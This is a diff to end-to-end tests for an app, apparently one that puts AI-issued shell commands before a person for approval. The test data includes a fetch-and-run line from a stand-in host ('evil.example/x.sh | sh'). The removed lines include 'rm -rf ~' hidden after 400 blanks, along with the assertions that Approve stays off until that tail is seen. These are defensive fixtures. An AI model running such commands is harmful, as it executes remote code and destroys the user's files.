@@ -46,16 +46,11 @@ test('C17 a file of decisions resolves nothing: it is listed with its reason, an
   expect(world.ledger.lines()).toEqual([]);
 });
 
-test('C57 at 1024x700 and 400 % every character is reachable without going sideways; the tail is seen before Approve', async ({
-  launch,
-  folders,
-  world,
-}) => {
+test('C57 at 1024x700 and 400 % a long command is whole, with its length', async ({ launch, folders, world }) => {
   writeSettings(folders, world.settings);
   const { page, app } = await launch();
   publish(folders, 'run.json', caseFile('C57'));
-  publish(folders, 'cut.json', caseFile('C57', 'checkpoint-already-cut.json'));
-  await expect(rows(page)).toHaveCount(2);
+  await expect(rows(page)).toHaveCount(1);
   await select(page, /×3/);
   await page.keyboard.press('Enter');
   await app.evaluate(({ BrowserWindow }) => {
@@ -67,24 +62,6 @@ test('C57 at 1024x700 and 400 % every character is reachable without going sidew
   const shown = page.getByTestId('arguments');
   await expect(shown).toContainText('200 characters, 1 line');
   await expect(shown).toContainText('https://evil.example/x.sh | sh');
-  // Until its end was on screen, Approve is off and says so.
-  await expect(page.getByTestId('approve-off')).toContainText('end of the arguments');
-  const aside = await page.evaluate(
-    () =>
-      [...document.querySelectorAll('.card-scroll, .args, .args .command')].filter(
-        (box) => box.scrollWidth > box.clientWidth + 1,
-      ).length,
-  );
-  expect(aside).toBe(0);
-  await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.setZoomFactor(1));
-  await page.keyboard.press(']');
-  // 61 lines fold, and must be opened.
-  await expect(page.getByTestId('approve-off')).toContainText('command');
-  await page.keyboard.press(']');
-  await expect(shown).toContainText('400 blanks');
-  await expect(shown).toContainText('rm -rf ~');
-  await select(page, /^run_shell(?! ×3)/);
-  await expect(page.getByTestId('warnings')).toContainText('may have been cut by the sender');
 });
 
 test('C63 markup from a model stays text in every field; the page has no way to Node and no free hand to the bridge', async ({
